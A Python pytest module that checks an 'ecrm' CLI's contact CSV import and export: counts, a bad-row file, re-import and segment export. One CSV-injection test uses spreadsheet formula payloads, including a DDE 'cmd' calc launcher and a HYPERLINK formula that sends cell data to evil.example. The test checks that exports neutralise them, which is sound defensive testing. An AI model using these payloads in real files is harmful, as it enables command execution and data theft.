"""`ecrm contacts import|export` against a real `ecrm serve`: 5,000 rows with 2% bad ones give
exact counts and a bad-row file by line; running it again imports nothing; what is exported is
what was imported, and imports again as nothing new. The file imports whole twice; the other
runs (bad rows allowed, the export imported back) take a part of a file, which shows as much.

moto's TransactWriteItems copies the whole table per item (so 5,000 rows would take minutes):
the module runs with `fast_transactions` (same outcomes, see tests/local/test_fast_transactions).
"""

from __future__ import annotations

import contextlib
import csv
import json
import subprocess
import sys
from collections import Counter
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from cli.client import ApiClient
from local.moto_backend import fast_transactions
from local.stack import EmbeddedStack
from tests.cli.conftest import Ecrm, Run
from tests.conftest import table_items

# The 5,000-row import takes minutes on a busy machine: it starts first.
pytestmark = pytest.mark.slow

ROWS = 5_000
BAD_EVERY = 50  # 2%
# Nothing here is scheduled: the stack ticks at the template's rate (a minute), not every 0.3 s
# (each tick reads the due index, which moto scans whole: 25,000 items after the import).
SCHEDULE_EVERY = None


@pytest.fixture(scope="module", autouse=True)
def _fast_moto() -> Iterator[None]:
    with fast_transactions():
        yield


@pytest.fixture
def ecrm_long(stack: EmbeddedStack) -> Ecrm:
    """`ecrm ARGS...` in a process of its own, like the `ecrm` fixture, with the time 5,000 rows
    (and their export) take through the local stack on a busy machine (120 s would not do)."""
    token = json.loads((stack.state_dir / "admin-tokens.json").read_text())["marketer"]

    def run(*argv: str) -> Run:
        done = subprocess.run(
            [sys.executable, "-m", "cli", "--api-url", stack.api_url, f"--token={token}", *argv],
            capture_output=True,
            text=True,
            timeout=1500,
            check=False,
        )
        return Run(done.returncode, done.stdout, done.stderr)

    return run


def _people(path: Path) -> tuple[Path, list[int], dict[str, tuple[str, str, str]]]:
    """The file, the lines of its bad rows, and what each good row should become."""
    bad_lines, good = [], {}
    lines = ["email,first_name,company,interests"]
    for n in range(ROWS):
        line = n + 2
        if n % BAD_EVERY == 7:
            lines.append(f"person{n}-at-example.com,Bad,Row,")
            bad_lines.append(line)
            continue
        interests = "events;guides" if n % 3 == 0 else "product news"
        lines.append(f"person{n}@example.com,Person {n},Company {n % 17},{interests}")
        good[f"person{n}@example.com"] = (f"Person {n}", f"Company {n % 17}", interests)
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    return path, bad_lines, good


def _result(run: Run) -> dict[str, Any]:
    """The command's JSON result: its last stdout line that is one (the stack's functions run
    in this process and log JSON lines to stdout too)."""
    for line in reversed(run.out.splitlines()):
        with contextlib.suppress(ValueError):
            found = json.loads(line)
            if isinstance(found, dict) and "import_id" in found:
                return found
    raise AssertionError(f"no result in {run.out[-500:]!r}")


def _contacts() -> int:
    return sum(1 for item in table_items() if item.get("type") == "contact")


def test_an_import_counts_exactly_writes_bad_rows_and_imports_nothing_twice(
    ecrm: Ecrm, ecrm_long: Ecrm, tmp_path: Path
) -> None:
    source, bad_lines, good = _people(tmp_path / "people.csv")
    errors = tmp_path / "bad.csv"
    argv = ["contacts", "import", str(source), "--list", "newsletter"]
    argv += ["--consent-source", "trade fair 2026", "--errors", str(errors), "--poll", "0.2"]

    first = ecrm_long(*argv, "--json")

    assert first.code == 1, first.err  # some rows were bad
    result = _result(first)
    expected = {"rows": ROWS, "imported": ROWS - len(bad_lines), "duplicates": 0}
    assert {k: result[k] for k in expected} == expected
    assert result["bad_rows"] == len(bad_lines) == ROWS // BAD_EVERY
    with errors.open(newline="") as file:
        written = list(csv.DictReader(file))
    assert [int(row["line"]) for row in written] == bad_lines
    assert all(row["errors"].startswith("email: ") for row in written)
    assert written[0]["email"] == "person7-at-example.com"

    errors.unlink()
    again = ecrm_long(*argv, "--json")
    assert again.code == 1
    assert {k: _result(again)[k] for k in expected} == expected
    assert errors.exists()
    items = table_items()  # one Scan (tests only) for both runs: each row's items once
    assert sum(1 for i in items if i.get("type") == "contact") == ROWS - len(bad_lines)
    interactions = Counter(i["pk"] for i in items if i.get("type") == "contact_imported")
    assert len(interactions) == ROWS - len(bad_lines) and set(interactions.values()) == {1}

    # The file's first 100 rows (two bad), when bad rows are allowed: exit 0.
    head = _first_rows(source, tmp_path / "head.csv", 100)
    allowed = ecrm(*[head if a == str(source) else a for a in argv], "--allow-bad-rows")
    assert allowed.code == 0 and "bad (written to" in allowed.out

    # Round trip: the topic's export is what the file held (its good rows).
    exported = tmp_path / "export.csv"
    run = ecrm_long("contacts", "export", "--topic", "newsletter", "--output", str(exported))
    assert run.code == 0, run.err
    with exported.open(newline="") as file:
        rows = list(csv.DictReader(file))
    assert {r["email"]: (r["first_name"], r["company"], r["interests"]) for r in rows} == good
    assert {r["status"] for r in rows} == {"subscribed"} and {r["topics"] for r in rows} == {
        "newsletter"
    }
    # What is exported imports as nothing new (its first 500 rows: every one a duplicate).
    part = _first_rows(exported, tmp_path / "exported-part.csv", 500)
    argv = ["contacts", "import", part, "--list", "newsletter", "--consent-source", "x"]
    back = ecrm(*argv, "--json", "--poll", "0.2")
    assert back.code == 0, back.err
    assert _result(back)["duplicates"] == 500
    assert _contacts() == ROWS - len(bad_lines)


def _first_rows(source: Path, path: Path, count: int) -> str:
    """A file of `source`'s header and its first `count` rows (each row is one line here)."""
    lines = source.read_text(encoding="utf-8").splitlines(keepends=True)
    path.write_text("".join(lines[: count + 1]), encoding="utf-8")
    return str(path)


def test_a_segment_exports_as_json_lines_on_stdout(
    ecrm: Ecrm, stack: EmbeddedStack, tmp_path: Path
) -> None:
    source = tmp_path / "few.csv"
    source.write_text(
        "email,first_name,company\nseg1@example.org,Sue,Acme\nseg2@example.org,Sam,Beta\n"
    )
    imported = ecrm(
        "contacts",
        "import",
        str(source),
        "--list",
        "events",
        "--consent-source",
        "webinar",
        "--poll",
        "0.2",
    )
    assert imported.code == 0, imported.err
    missing = ecrm("contacts", "export", "--segment", "acme-events", "--format", "jsonl")
    assert missing.code == 1 and "No such segment" in missing.err
    token = json.loads((stack.state_dir / "admin-tokens.json").read_text())["marketer"]
    ApiClient(stack.api_url, token).post(
        "/admin/segments",
        {
            "id": "acme-events",
            "name": "Acme at events",
            "topic": "events",
            "conditions": [{"kind": "field", "field": "company", "op": "eq", "value": "Acme"}],
        },
    )

    run = ecrm("contacts", "export", "--segment", "acme-events", "--format", "jsonl")

    assert run.code == 0, run.err
    [contact] = [line for line in run.lines() if isinstance(line, dict) and "email" in line]
    assert (contact["email"], contact["first_name"], contact["topics"]) == (
        "seg1@example.org",
        "Sue",
        ["events"],
    )


FORMULAS = {
    "f1@formulas.example": ("=1+1", "+cmd|' /C calc'!A0"),
    "f2@formulas.example": ("-2+3", '=HYPERLINK("http://evil.example/?"&A1, "Click")'),
    # A quote before a formula is a spreadsheet's "this is text" mark: imported as the text.
    "f3@formulas.example": ("Ann", "'=quoted"),
}
STORED = {**FORMULAS, "f3@formulas.example": ("Ann", "=quoted")}


def test_formulas_are_text_in_csv_files_and_exact_in_json_lines(ecrm: Ecrm, tmp_path: Path) -> None:
    """CSV injection (OWASP): what a visitor or a file typed comes out of every CSV the product
    writes (the export, the bad-row file) as text a spreadsheet never runs; JSON lines are
    exact (tests/unit/test_csv_cells.py: an import reads the quoted cells back as the values)."""
    source = tmp_path / "formulas.csv"
    with source.open("w", newline="", encoding="utf-8") as file:
        writer = csv.writer(file)  # the file as a person's spreadsheet would write it: raw
        writer.writerow(["email", "first_name", "company"])
        for email, (first_name, company) in FORMULAS.items():
            writer.writerow([email, first_name, company])
        writer.writerow(['=HYPERLINK("http://evil.example")', "@SUM(1+1)", "x"])
    errors = tmp_path / "formulas.bad.csv"
    argv = ["contacts", "import", str(source), "--list", "events", "--consent-source", "fair"]
    imported = ecrm(*argv, "--errors", str(errors), "--poll", "0.2")
    assert imported.code == 1, imported.err  # the last row is bad

    with errors.open(newline="", encoding="utf-8") as file:
        [bad] = list(csv.DictReader(file))
    assert bad["email"] == '\'=HYPERLINK("http://evil.example")'
    assert bad["first_name"] == "'@SUM(1+1)"

    exported = tmp_path / "export.csv"
    assert ecrm("contacts", "export", "--topic", "events", "--output", str(exported)).code == 0
    with exported.open(newline="", encoding="utf-8") as file:
        rows = {r["email"]: r for r in csv.DictReader(file) if r["email"] in FORMULAS}
    assert {e: (r["first_name"], r["company"]) for e, r in rows.items()} == {
        "f1@formulas.example": ("'=1+1", "'+cmd|' /C calc'!A0"),
        "f2@formulas.example": ("'-2+3", '\'=HYPERLINK("http://evil.example/?"&A1, "Click")'),
        "f3@formulas.example": ("Ann", "'=quoted"),
    }
    for row in rows.values():
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row.values())

    lines = ecrm("contacts", "export", "--topic", "events", "--format", "jsonl").lines()
    exact = {
        line["email"]: (line["first_name"], line["company"])
        for line in lines
        if isinstance(line, dict) and line.get("email") in FORMULAS
    }
    assert exact == STORED


def test_a_file_that_cannot_be_read_is_a_usage_error(ecrm: Ecrm, tmp_path: Path) -> None:
    run = ecrm("contacts", "import", str(tmp_path / "nope.csv"), "--consent-source", "x", "--json")
    assert run.code == 2
    assert json.loads(run.err.splitlines()[-1])["error"]["code"] == "bad_file"
